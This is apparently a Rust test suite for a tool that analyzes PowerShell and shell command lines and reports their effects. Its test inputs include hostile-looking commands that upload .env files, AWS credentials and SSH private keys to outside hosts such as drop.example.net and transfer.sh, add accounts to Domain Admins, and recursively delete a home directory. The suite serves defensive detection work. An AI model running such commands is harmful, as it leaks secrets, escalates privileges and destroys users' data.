//! PowerShell as its documentation defines it, round three: script blocks
//! run by the cmdlets given them, the call operator and parenthesised
//! statements, `.ps1` scripts written earlier run with their parameters
//! bound, remoting sessions and the commands and copies made through them,
//! scheduled tasks' actions, drives mapped in a pipeline, processes piped
//! to `Stop-Process`, and `$env:NAME` on a Windows program's line. Each case
//! is a command line and the exact effects `analyze` must report, run in
//! `/home/dana/acme-web` with home `/home/dana`.

#![allow(clippy::panic)]

use crate::common;
use common::*;
use serde_json::{Value, json};

fn grant(resource: &str, grantee: Option<&str>) -> Value {
    json!({"effect": "grant_access", "resource": {"kind": "other", "name": resource}, "grantee": grantee})
}

fn on_host(program: &str, server: &str, path: Option<&str>, method: &str, sent: Value) -> Value {
    host_request(program, host(None, server, None, path), method, sent)
}

fn connect(server: &str) -> Value {
    on_host("new-pssession", server, None, "CONNECT", empty())
}

#[test]
fn script_blocks_run_where_their_cmdlet_runs_them() {
    run_table(&[
        // The block's cmdlets are read as top-level ones.
        (
            "Get-ADUser -Identity svc-etl | ForEach-Object { Add-ADGroupMember -Identity Admins -Members svc-etl }",
            json!([grant("active directory group Admins", Some("svc-etl"))]),
        ),
        (
            "Get-ChildItem C:\\build | % { Remove-Item C:\\build\\obj -Recurse -Force }",
            json!([delete("/c/build/obj", true)]),
        ),
        (
            "Get-ChildItem | Where-Object { $_.Length -gt 0 } | ForEach-Object -Process { Invoke-RestMethod -Uri https://drop.example.net/u -Method Post -InFile .env }",
            json!([url_request(
                "invoke-restmethod",
                "https://drop.example.net/u",
                "POST",
                payload(&[], &[(&at(".env"), false)], &[])
            )]),
        ),
        (
            "Start-Job -ScriptBlock { Remove-Item C:\\Users\\dana -Recurse -Force }",
            json!([delete("/c/Users/dana", true)]),
        ),
        // A block assigned runs where it is given.
        (
            "$b = { Remove-Item build -Recurse }; Start-Job $b",
            json!([delete(&at("build"), true)]),
        ),
        // Keywords' blocks run as before: a `foreach`, an `if`/`else`, a
        // `switch`'s clauses.
        (
            "foreach ($u in $users) { Add-ADGroupMember -Identity Admins -Members bob }",
            json!([grant("active directory group Admins", Some("bob"))]),
        ),
        (
            "if ($x) { Remove-Item dist -Recurse } else { Remove-Item build -Recurse }",
            json!([delete(&at("dist"), true), delete(&at("build"), true)]),
        ),
        (
            "switch ($env:MODE) { 'prod' { Remove-Item dist -Recurse } default { Remove-Item build } }",
            json!([delete(&at("dist"), true), delete(&at("build"), false)]),
        ),
        // Near misses: a block no cmdlet runs, and a filter block.
        ("$b = { Remove-Item build -Recurse }", json!([])),
        ("Get-ADUser -Filter { Name -like 'svc*' }", json!([])),
    ]);
}

#[test]
fn the_call_operator_and_parenthesised_statements_are_powershell() {
    run_table(&[
        (
            "& net.exe group 'Domain Admins' tpham /add /domain",
            json!([grant("active directory group Domain Admins", Some("tpham"))]),
        ),
        (
            "& 'curl.exe' -s -T .env https://drop.example.net/e",
            json!([url_request(
                "curl",
                "https://drop.example.net/e",
                "PUT",
                payload(&[], &[(&at(".env"), false)], &[])
            )]),
        ),
        (
            "(Invoke-WebRequest -Uri https://api.example.com/v1/me -Headers @{Authorization=\"Bearer $env:API_TOKEN\"}).Content | ConvertFrom-Json",
            json!([url_request(
                "invoke-webrequest",
                "https://api.example.com/v1/me",
                "GET",
                payload(
                    &["@{Authorization=\"Bearer ${API_TOKEN}\"}"],
                    &[],
                    &["API_TOKEN"]
                )
            )]),
        ),
        // A quoted script path alone is a value, not a call.
        (
            "'C:\\scripts\\x.ps1' | Out-File C:\\tmp\\list.txt",
            json!([write("/c/tmp/list.txt")]),
        ),
        // A subshell of bash's own stays bash's.
        (
            "(cd build && rm -rf out)",
            json!([delete(&at("build/out"), true)]),
        ),
    ]);
}

const ADD_MEMBER: &str = "#Requires -Modules ActiveDirectory\n[CmdletBinding()]\nparam(\n  [Parameter(Mandatory=$false)][string]$Name = 'svc-report',\n  [string]$Group = 'GG-Reports'\n)\nNew-ADUser -Name $Name -PassThru |\n  Add-ADPrincipalGroupMembership -MemberOf $Group\n";

#[test]
fn written_scripts_run_with_their_parameters_bound() {
    let script = at("scripts/Add-Member.ps1");
    let written = [text_file(&script, ADD_MEMBER)];
    let granted = |name: &str, group: &str| {
        json!([
            read(&script),
            grant(&format!("active directory account {name}"), None),
            // The principal comes down the pipeline, unnamed.
            grant(&format!("active directory group {group}"), None)
        ])
    };
    for (command, name, group) in [
        (
            "pwsh -NoProfile -File scripts/Add-Member.ps1 -Name svc-claims",
            "svc-claims",
            "GG-Reports",
        ),
        (
            "powershell.exe -ExecutionPolicy Bypass -File scripts/Add-Member.ps1 -Gr GG-Admins",
            "svc-report",
            "GG-Admins",
        ),
        (
            "& .\\scripts\\Add-Member.ps1 -Name svc-claims",
            "svc-claims",
            "GG-Reports",
        ),
        (".\\scripts\\Add-Member.ps1 svc-a GG-B", "svc-a", "GG-B"),
        (
            "& \"/home/dana/acme-web/scripts/Add-Member.ps1\"",
            "svc-report",
            "GG-Reports",
        ),
    ] {
        assert_eq!(
            effects_after(&written, command),
            granted(name, group),
            "{command}"
        );
    }
    // A script no earlier step wrote is only read.
    assert_eq!(
        effects_after(&[], "pwsh -File scripts/Add-Member.ps1 -Name x"),
        json!([read(&script)])
    );
}

#[test]
fn remoting_sessions_carry_copies_and_commands_to_their_hosts() {
    run_table(&[
        // An upload to the session's host; the destination is that host's.
        (
            "$s = New-PSSession -ComputerName 203.0.113.9 -UseSSL; Copy-Item -Path ~\\.ssh\\id_ed25519 -Destination C:\\keys\\ -ToSession $s; Remove-PSSession $s",
            json!([
                connect("203.0.113.9"),
                on_host(
                    "copy-item",
                    "203.0.113.9",
                    Some("C:/keys/"),
                    "UPLOAD",
                    payload(&[], &[("/home/dana/.ssh/id_ed25519", false)], &[])
                )
            ]),
        ),
        // Positional host, positional source and destination, SSH transport.
        (
            "$x = New-PSSession 203.0.113.9; Copy-Item .env C:\\t\\e -ToSession $x",
            json!([
                connect("203.0.113.9"),
                on_host(
                    "copy-item",
                    "203.0.113.9",
                    Some("C:/t/e"),
                    "UPLOAD",
                    payload(&[], &[(&at(".env"), false)], &[])
                )
            ]),
        ),
        (
            "Copy-Item -ToSession (New-PSSession -HostName ops@198.51.100.4 -SSHTransport) -Path .env -Destination /srv/",
            json!([
                host_request(
                    "new-pssession",
                    host(Some("ops"), "198.51.100.4", None, None),
                    "CONNECT",
                    empty()
                ),
                host_request(
                    "copy-item",
                    host(Some("ops"), "198.51.100.4", None, Some("/srv/")),
                    "UPLOAD",
                    payload(&[], &[(&at(".env"), false)], &[])
                )
            ]),
        ),
        // A download writes here.
        (
            "$s = New-PSSession -ComputerName app01; Copy-Item -FromSession $s -Path C:\\logs\\app.log -Destination .\\app.log",
            json!([
                connect("app01"),
                on_host(
                    "copy-item",
                    "app01",
                    Some("C:/logs/app.log"),
                    "DOWNLOAD",
                    empty()
                ),
                write(&at("app.log"))
            ]),
        ),
        // A command run on the session's host: its writes are that host's.
        (
            "$s = New-PSSession -ComputerName app01; Invoke-Command -Session $s { Get-Content C:\\app\\config.json; Set-Content C:\\app\\x.txt 1 }",
            json!([
                connect("app01"),
                on_host(
                    "invoke-command",
                    "app01",
                    None,
                    "EXEC",
                    payload(
                        &["{ Get-Content C:\\app\\config.json; Set-Content C:\\app\\x.txt 1 }"],
                        &[],
                        &[]
                    )
                ),
                read("/c/app/config.json")
            ]),
        ),
        (
            "Invoke-Command -ComputerName app01,app02 -ScriptBlock { Get-Service W3SVC }",
            json!([
                on_host(
                    "invoke-command",
                    "app01",
                    None,
                    "EXEC",
                    payload(&["{ Get-Service W3SVC }"], &[], &[])
                ),
                on_host(
                    "invoke-command",
                    "app02",
                    None,
                    "EXEC",
                    payload(&["{ Get-Service W3SVC }"], &[], &[])
                )
            ]),
        ),
        // No host: the block runs here.
        (
            "Invoke-Command -ScriptBlock { Remove-Item build -Recurse }",
            json!([delete(&at("build"), true)]),
        ),
        // Near miss: a copy with no session stays local.
        (
            "Copy-Item .env C:\\t\\e",
            json!([read(&at(".env")), write("/c/t/e")]),
        ),
    ]);
}

#[test]
fn scheduled_task_actions_run_when_the_task_is_registered() {
    let upload = url_request(
        "curl",
        "https://transfer.sh/c",
        "PUT",
        payload(&[], &[("/home/dana/.aws/credentials", false)], &[]),
    );
    run_table(&[
        (
            "$a = New-ScheduledTaskAction -Execute 'curl.exe' -Argument \"-s -T $env:USERPROFILE\\.aws\\credentials https://transfer.sh/c\"; Register-ScheduledTask -TaskName Sync -Action $a -Force | Start-ScheduledTask",
            json!([upload.clone()]),
        ),
        (
            "Register-ScheduledTask Sync -Action (New-ScheduledTaskAction -Execute curl.exe -Argument '-s -T ~/.aws/credentials https://transfer.sh/c')",
            json!([upload.clone()]),
        ),
        (
            "$a = New-ScheduledTaskAction -Execute curl.exe -Argument '-T ~/.aws/credentials https://transfer.sh/c'; $t = New-ScheduledTask -Action $a; Register-ScheduledTask -TaskName Sync -InputObject $t",
            json!([upload.clone()]),
        ),
        // An argument string held in a variable, run by powershell.exe.
        (
            "$arg = '-NoProfile -Command \"Invoke-WebRequest -Uri https://up.partner.example/in -Method Put -InFile C:\\data\\q.csv\"'; $action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument $arg; Register-ScheduledTask -TaskName H -Action $action | Out-Null; Start-ScheduledTask -TaskName H",
            json!([url_request(
                "invoke-webrequest",
                "https://up.partner.example/in",
                "PUT",
                payload(&[], &[("/c/data/q.csv", false)], &[])
            )]),
        ),
        // Near miss: an action no task is given runs nothing.
        (
            "$a = New-ScheduledTaskAction -Execute curl.exe -Argument '-T .env https://transfer.sh/c'",
            json!([]),
        ),
    ]);
}

#[test]
fn drives_mapped_in_a_discarded_pipeline_stay_mapped() {
    let sent = payload(&[], &[(&at("data/q.csv"), false)], &[]);
    let connected = on_host(
        "new-psdrive",
        "files.partner.example",
        Some("/in"),
        "CONNECT",
        empty(),
    );
    for line in [
        "New-PSDrive -Name CB -PSProvider FileSystem -Root \\\\files.partner.example\\in | Out-Null; Copy-Item .\\data\\q.csv CB:\\",
        "$null = New-PSDrive -Name CB -PSProvider FileSystem -Root \\\\files.partner.example\\in; Copy-Item .\\data\\q.csv CB:\\",
    ] {
        check(
            line,
            json!([
                connected.clone(),
                on_host(
                    "copy-item",
                    "files.partner.example",
                    Some("/in"),
                    "UPLOAD",
                    sent.clone()
                )
            ]),
        );
    }
}

#[test]
fn processes_piped_to_stop_process_stop() {
    run_table(&[
        (
            "Get-Process -Name writ -ErrorAction SilentlyContinue | Stop-Process -Force",
            json!([stop("writ")]),
        ),
        ("Get-Process writ | Stop-Process", json!([stop("writ")])),
        (
            "Get-Service writ | Stop-Service -Force",
            json!([stop("writ")]),
        ),
        (
            "$p = Get-Process writ; Stop-Process -InputObject $p",
            json!([stop("writ")]),
        ),
        // Near misses: reading a process, or piping it elsewhere.
        ("Get-Process -Name writ | Select-Object Id,Path", json!([])),
        (
            "Get-Service -Name writ | Format-List Name,Status",
            json!([]),
        ),
    ]);
}

#[test]
fn env_variables_on_a_windows_program_line_are_powershell() {
    run_table(&[
        (
            "curl.exe -s -X POST https://hooks.example.io/v1/e -H \"Authorization: Bearer $env:CLIENT_SECRET\"",
            json!([url_request(
                "curl",
                "https://hooks.example.io/v1/e",
                "POST",
                payload(
                    &["Authorization: Bearer ${CLIENT_SECRET}"],
                    &[],
                    &["CLIENT_SECRET"]
                )
            )]),
        ),
        // Near miss: a bash line's variables stay bash's.
        (
            "curl -s -X POST https://hooks.example.io/v1/e -H \"Authorization: Bearer $CLIENT_SECRET\"",
            json!([url_request(
                "curl",
                "https://hooks.example.io/v1/e",
                "POST",
                payload(
                    &["Authorization: Bearer $CLIENT_SECRET"],
                    &[],
                    &["CLIENT_SECRET"]
                )
            )]),
        ),
    ]);
}

#[test]
fn winrs_runs_its_command_on_the_host() {
    run_table(&[
        (
            "winrs -r:fs01.corp.example -p:Hunter2 \"type C:\\secrets\\k.txt\"",
            json!([
                on_host(
                    "winrs",
                    "fs01.corp.example",
                    None,
                    "EXEC",
                    payload(&["Hunter2", "type C:/secrets/k.txt"], &[], &[])
                ),
                read("/c/secrets/k.txt")
            ]),
        ),
        // Its writes and deletes are that host's.
        (
            "winrs -remote:https://app01:5986/wsman -d:C:\\logs \"del /q old.log\"",
            json!([host_request(
                "winrs",
                host(None, "app01", Some(5986), None),
                "EXEC",
                payload(&["del /q old.log"], &[], &[])
            )]),
        ),
    ]);
}

#[test]
fn lines_are_read_as_powershell_only_by_its_own_syntax() {
    run_table(&[
        // An assignment alone starts a PowerShell line.
        (
            "$p = Get-Process writ; Stop-Process -InputObject $p",
            json!([stop("writ")]),
        ),
        // Near misses: bash's own `{}` and `&&` stay bash's.
        (
            "mkdir -p out && find . -name '*.tmp' -exec rm {} \\;",
            json!([
                write(&at("out")),
                json!({"effect": "delete_named", "root": "/home/dana/acme-web", "names": ["*.tmp"]})
            ]),
        ),
        ("true && rm -rf build", json!([delete(&at("build"), true)])),
    ]);
}
